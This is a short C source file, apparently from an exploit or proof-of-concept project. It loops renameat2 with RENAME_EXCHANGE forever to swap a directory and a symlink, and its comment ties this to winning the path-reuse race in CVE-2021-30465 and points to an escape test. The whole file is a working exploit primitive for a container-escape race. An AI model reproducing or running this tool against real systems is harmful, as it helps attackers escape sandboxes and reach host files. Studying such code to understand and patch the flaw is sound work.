/* SPDX-License-Identifier: MIT */
/*
 * swap.c - exchange two names again and again: a folder, and a symlink
 *
 * Usage:  swap ONE OTHER
 *
 * Whoever looks at one of them, is content, and then uses its name once more,
 * may get the other (CVE-2021-30465).  Never ends.
 *
 * Read:   renameat2(2), RENAME_EXCHANGE
 * Test:   tests/escape.sh
 */
#include <fcntl.h>
#include <stdio.h>

int main(int argc, char **argv)
{
	if (argc != 3)
		return 2;
	for (;;) {
		if (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2],
			      RENAME_EXCHANGE) < 0) {
			perror("swap");
			return 1;
		}
	}
}
